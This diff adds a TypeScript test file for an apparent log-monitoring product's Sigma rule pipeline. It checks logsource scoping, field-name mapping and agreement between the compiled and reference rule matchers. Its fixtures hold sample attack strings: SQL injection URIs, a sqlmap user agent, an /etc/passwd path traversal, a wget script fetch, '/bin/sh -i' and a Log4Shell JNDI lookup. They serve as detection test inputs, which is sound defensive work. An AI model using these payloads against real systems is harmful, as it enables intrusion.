@@ -1,0 +1,189 @@
+// The vigil pipeline: which logsources see which of Vigil's sources, the Sigma web / proxy /
+// firewall field names on the normalized fields, SigmaHQ's own web and Linux rules on events
+// shaped as Vigil's parsers write them, and the compiled backend agreeing with the reference
+// evaluator under this pipeline.
+import type { VigilEvent } from "@vigil/schema";
+import { existsSync, readFileSync } from "node:fs";
+import { join } from "node:path";
+import { describe, expect, it } from "vitest";
+import { compiledEngine, compileRules, loadBuiltinRules, loadRules, matchesRule, readRuleFiles, resolveField, vigilPipeline, windowsPipeline } from "../index";
+import type { LogSource, SigmaRule } from "../model/types";
+import { makeEvent } from "../test-support";
+import { vigilLogsourceAdmits, vigilSource } from "./vigil";
+
+const SIGMA = "/work/shared/data/sigma/rules";
+
+/** A web access log line as the access-log parser writes it (module, url, http, user agent). */
+function accessLog(method: string, target: string, status: number, agent = "Mozilla/5.0"): VigilEvent {
+  const q = target.indexOf("?");
+  const raw = `203.0.113.7 - - [27/Nov/2026:10:00:00 +0000] "${method} ${target} HTTP/1.1" ${status} 512 "-" "${agent}"`;
+  return makeEvent({
+    raw, event: { action: "http-request", category: "web", module: "access-log", outcome: status < 400 ? "success" : "failure" },
+    source: { ip: "203.0.113.7" }, url: { original: target, path: q < 0 ? target : target.slice(0, q), ...(q < 0 ? {} : { query: target.slice(q + 1) }) },
+    http: { request: { method }, response: { status_code: status, bytes: 512 }, version: "1.1" }, user_agent: { original: agent },
+    vigil: { receiver: "syslog" }, original: {}, message: raw,
+  });
+}
+
+function sysmonProcess(commandLine: string): VigilEvent {
+  const original = { Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1, Image: "C:\\Windows\\System32\\cmd.exe", CommandLine: commandLine };
+  return makeEvent({ event: { code: "1", module: "sysmon" }, original, raw: JSON.stringify(original) });
+}
+
+function securityLogonFailed(user: string): VigilEvent {
+  const original = { Channel: "Security", EventID: 4625, TargetUserName: user };
+  return makeEvent({ event: { code: "4625", module: "windows", action: "logon", category: "authentication", outcome: "failure" }, user: { name: user }, original, raw: JSON.stringify(original) });
+}
+
+/** A syslog line the parsers did not recognize (no module): a Linux host's kernel, cron, ... */
+function syslogLine(app: string, message: string): VigilEvent {
+  return makeEvent({ event: {}, log: { syslog: { appname: app } }, message, raw: `<3>Nov 27 10:00:00 db-1 ${app}: ${message}`, vigil: { receiver: "syslog" }, original: {} });
+}
+
+function linuxAuth(app: string, message: string, action = "user-login", outcome: "success" | "failure" = "failure", category = "authentication"): VigilEvent {
+  return makeEvent({
+    event: { action, outcome, category, module: "linux-auth" }, user: { name: "root" }, log: { syslog: { appname: app } }, message,
+    raw: `<38>Nov 27 10:00:00 db-1 ${app}[411]: ${message}`, vigil: { receiver: "syslog" }, original: {},
+  });
+}
+
+const iptables = makeEvent({ event: { action: "DROP", category: "network", type: "denied", module: "iptables" }, source: { ip: "198.51.100.4", port: 4444 }, destination: { ip: "10.0.0.5", port: 22 }, vigil: { receiver: "syslog" } });
+const cloudtrail = makeEvent({ event: { action: "ConsoleLogin", module: "cloudtrail", provider: "signin.amazonaws.com" }, original: { eventSource: "signin.amazonaws.com", eventName: "ConsoleLogin" } });
+const okta = makeEvent({ event: { action: "user.session.start", module: "okta", provider: "okta" }, original: { eventType: "user.session.start" } });
+const generic = makeEvent({ event: {}, original: { msg: "from a sender Vigil has no parser for" } });
+
+describe("vigil pipeline: logsource scoping", () => {
+  const cases: [string, VigilEvent, LogSource, boolean][] = [
+    ["Windows rule, Sysmon 1", sysmonProcess("cmd /c whoami"), { product: "windows", category: "process_creation" }, true],
+    ["Windows rule of another category, Sysmon 1", sysmonProcess("cmd /c whoami"), { product: "windows", category: "dns_query" }, false],
+    ["Linux rule, Sysmon 1", sysmonProcess("cmd /c whoami"), { product: "linux" }, false],
+    ["web server rule, Sysmon 1", sysmonProcess("cmd /c whoami"), { category: "webserver" }, false],
+    ["Vigil's authentication rule, Security 4625", securityLogonFailed("bob"), { category: "authentication" }, true],
+    ["web server rule, access log", accessLog("GET", "/", 200), { category: "webserver" }, true],
+    ["apache service rule, access log", accessLog("GET", "/", 200), { service: "apache" }, true],
+    ["Linux rule, access log", accessLog("GET", "/", 200), { product: "linux" }, false],
+    ["proxy rule, access log", accessLog("GET", "/", 200), { category: "proxy" }, false],
+    ["Vigil's authentication rule, access log", accessLog("GET", "/", 200), { category: "authentication" }, true],
+    ["Linux rule, Linux auth line", linuxAuth("sshd", "Failed password for root"), { product: "linux" }, true],
+    ["Linux auth rule, Linux auth line", linuxAuth("sshd", "Failed password for root"), { product: "linux", service: "auth" }, true],
+    ["sshd rule, sshd line", linuxAuth("/usr/sbin/sshd", "Failed password for root"), { product: "linux", service: "sshd" }, true],
+    ["sudo rule, sshd line", linuxAuth("sshd", "Failed password for root"), { product: "linux", service: "sudo" }, false],
+    ["auditd rule, Linux auth line", linuxAuth("sshd", "Failed password for root"), { product: "linux", service: "auditd" }, false],
+    ["Linux process_creation rule, Linux auth line", linuxAuth("sshd", "Failed password for root"), { product: "linux", category: "process_creation" }, false],
+    ["Linux process_creation rule, sudo COMMAND line", linuxAuth("sudo", "bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/sbin/auditctl -D", "sudo", "success", "process"), { product: "linux", category: "process_creation" }, true],
+    ["web server rule, Linux auth line", linuxAuth("sshd", "Failed password for root"), { category: "webserver" }, false],
+    ["Linux firewall rule, iptables line", iptables, { product: "linux", category: "firewall" }, true],
+    ["firewall rule, iptables line", iptables, { category: "firewall" }, true],
+    ["Linux auth rule, iptables line", iptables, { product: "linux", service: "auth" }, false],
+    ["CloudTrail rule, CloudTrail", cloudtrail, { product: "aws", service: "cloudtrail" }, true],
+    ["Okta rule, CloudTrail", cloudtrail, { product: "okta", service: "okta" }, false],
+    ["Okta rule, Okta", okta, { product: "okta", service: "okta" }, true],
+    ["Azure rule, Okta", okta, { product: "azure", service: "signinlogs" }, false],
+    ["Linux rule, unrecognized syslog line", syslogLine("kernel", "stack smashing detected"), { product: "linux" }, true],
+    ["Azure rule, unrecognized JSON", generic, { product: "azure", service: "signinlogs" }, true],
+    ["proxy rule, unrecognized JSON", generic, { category: "proxy" }, true],
+    ["Windows rule, unrecognized JSON", generic, { product: "windows" }, false],
+  ];
+  it.each(cases)("%s: %s", (_name, event, logsource, admitted) => {
+    expect(vigilLogsourceAdmits(logsource, event)).toBe(admitted);
+  });
+
+  it("names the source of each recognized event", () => {
+    expect([sysmonProcess("x"), accessLog("GET", "/", 200), linuxAuth("sshd", "x"), iptables, cloudtrail, okta, generic].map(vigilSource))
+      .toEqual(["windows", "access-log", "linux-auth", "iptables", "cloudtrail", "okta", undefined]);
+  });
+
+  it("lets Vigil's authentication rules see Windows logons, which the windows pipeline does not", () => {
+    const { rules } = loadBuiltinRules();
+    const failed = rules.find((r) => r.logsource.category === "authentication" && r.logsource.product === undefined && matchesRule(r, securityLogonFailed("bob")));
+    expect(failed).toBeDefined();
+    expect(vigilPipeline.admits(failed as SigmaRule, securityLogonFailed("bob"))).toBe(true);
+    expect(windowsPipeline.admits(failed as SigmaRule, securityLogonFailed("bob"))).toBe(false);
+  });
+});
+
+describe("vigil pipeline: Sigma taxonomy field names", () => {
+  it("resolves web server, proxy and firewall names to the normalized fields", () => {
+    const web = accessLog("POST", "/login.php?user=admin", 403, "sqlmap/1.7");
+    expect(["cs-method", "cs-uri-query", "cs-uri-stem", "sc-status", "cs-user-agent", "c-useragent", "c-ip", "c-uri"].map((f) => resolveField(web, f)))
+      .toEqual(["POST", "user=admin", "/login.php", 403, "sqlmap/1.7", "sqlmap/1.7", "203.0.113.7", "/login.php?user=admin"]);
+    expect(["src_ip", "dst_ip", "dst_port"].map((f) => resolveField(iptables, f))).toEqual(["198.51.100.4", "10.0.0.5", 22]);
+  });
+
+  it("keeps a sender's own field of that name first", () => {
+    const w3c = makeEvent({ url: { query: "normalized" }, original: { "cs-uri-query": "as sent" } });
+    expect(resolveField(w3c, "cs-uri-query")).toBe("as sent");
+  });
+});
+
+/** The rules of a SigmaHQ file or folder. */
+const sigmaRule = (path: string): SigmaRule[] =>
+  loadRules(path.endsWith(".yml") ? [{ file: path, text: readFileSync(join(SIGMA, path), "utf8") }] : readRuleFiles(join(SIGMA, path))).rules;
+
+describe.skipIf(!existsSync(SIGMA))("vigil pipeline: SigmaHQ web and Linux rules on Vigil's events", () => {
+  const rules = [
+    ...sigmaRule("web/webserver_generic/web_sql_injection_in_access_logs.yml"),
+    ...sigmaRule("web/webserver_generic/web_susp_useragents.yml"),
+    ...sigmaRule("linux/builtin/lnx_buffer_overflows.yml"),
+  ];
+  const titles = (event: VigilEvent) => {
+    const { engine } = compiledEngine({ rules, correlations: [], errors: [], silent: new Set() }, { pipeline: vigilPipeline });
+    return engine.process("t", [event]).map((m) => m.ruleTitle).sort();
+  };
+
+  it("loads the three rules", () => {
+    expect(rules.map((r) => r.title).sort()).toEqual(["Buffer Overflow Attempts", "SQL Injection Strings In URI", "Suspicious User-Agents Related To Recon Tools"]);
+  });
+
+  it("fires SigmaHQ's SQL injection rule on a GET access log (cs-method, sc-status), not on a 404 or a POST", () => {
+    expect(titles(accessLog("GET", "/items?id=1%20UNION%20SELECT%20password%20FROM%20users", 200))).toEqual(["SQL Injection Strings In URI"]);
+    expect(titles(accessLog("GET", "/items?id=1%20UNION%20SELECT%20password%20FROM%20users", 404))).toEqual([]);
+    expect(titles(accessLog("POST", "/items?id=1%20UNION%20SELECT%20password%20FROM%20users", 200))).toEqual([]);
+  });
+
+  it("fires the recon user-agent rule on an access log, not on a Windows command line holding the same text", () => {
+    expect(titles(accessLog("GET", "/", 200, "sqlmap/1.7#stable (https://sqlmap.org)"))).toEqual(["Suspicious User-Agents Related To Recon Tools"]);
+    expect(titles(sysmonProcess("python sqlmap.py -u http://x/?id=1 UNION SELECT 1 --user-agent sqlmap/1.7"))).toEqual([]);
+  });
+
+  it("fires the Linux buffer overflow keywords on a Linux syslog line, not on a URL holding them", () => {
+    expect(titles(syslogLine("kernel", "*** stack smashing detected ***: terminated"))).toEqual(["Buffer Overflow Attempts"]);
+    expect(titles(accessLog("GET", "/?q=stack%20smashing%20detected&x=stack smashing detected", 200))).toEqual([]);
+    // With no scoping (every rule sees every event) the URL fired it.
+    expect(rules.filter((r) => r.title === "Buffer Overflow Attempts" && matchesRule(r, accessLog("GET", "/?x=stack smashing detected", 200)))).toHaveLength(1);
+  });
+});
+
+describe.skipIf(!existsSync(SIGMA))("compiled backend == reference evaluator under the vigil pipeline", () => {
+  it("over the SigmaHQ web, Linux, cloud and Windows process rules and events of every source", () => {
+    const rules = [
+      ...sigmaRule("web"), ...sigmaRule("linux"), ...sigmaRule("cloud/aws"), ...sigmaRule("identity/okta"),
+      ...sigmaRule("windows/process_creation").slice(0, 300),
+    ];
+    expect(rules.length).toBeGreaterThan(500);
+    const words = ["UNION SELECT", "../../etc/passwd", "sqlmap/1.7", "stack smashing detected", "wget http://x/a.sh", "whoami", "/bin/sh -i", "ConsoleLogin", "${jndi:ldap://x}"];
+    const events: VigilEvent[] = [];
+    words.forEach((w, i) => {
+      events.push(accessLog(i % 2 ? "POST" : "GET", `/a?q=${w}`, i % 3 ? 200 : 404, i % 4 ? "curl/8" : w));
+      events.push(sysmonProcess(`cmd.exe /c ${w}`));
+      events.push(syslogLine(i % 2 ? "kernel" : "bash", w));
+      events.push(linuxAuth(i % 2 ? "sshd" : "sudo", `Failed password for ${w}`));
+      events.push(makeEvent({ event: { module: "cloudtrail", action: "ConsoleLogin" }, original: { eventSource: "signin.amazonaws.com", eventName: i % 2 ? "ConsoleLogin" : "StopLogging", userAgent: w } }));
+      events.push(makeEvent({ event: { module: "okta" }, original: { eventType: i % 2 ? "policy.lifecycle.update" : "user.mfa.factor.deactivate", displayMessage: w } }));
+      events.push(makeEvent({ event: { module: "iptables" }, source: { ip: "10.0.0.1" }, destination: { ip: "10.0.0.2", port: 4444 } }));
+      events.push(makeEvent({ event: {}, original: { CommandLine: w, Image: "/usr/bin/bash", "c-useragent": w } }));
+    });
+    const compiled = compileRules(rules, { pipeline: vigilPipeline });
+    const differing: string[] = [];
+    let fired = 0;
+    for (const event of events) {
+      const naive = rules.filter((r) => vigilPipeline.admits(r, event) && matchesRule(r, event, vigilPipeline.resolve)).map((r) => r.id);
+      const fast = compiled.match(event);
+      fired += naive.length;
+      if (naive.join() !== fast.join()) differing.push(`${event.raw}: naive ${naive.join()} compiled ${fast.join()}`);
+    }
+    console.log(`vigil pipeline: ${rules.length} rules x ${events.length} events, ${fired} matches, compiled == reference`);
+    expect(differing).toEqual([]);
+    expect(fired).toBeGreaterThan(5);
+  });
+});
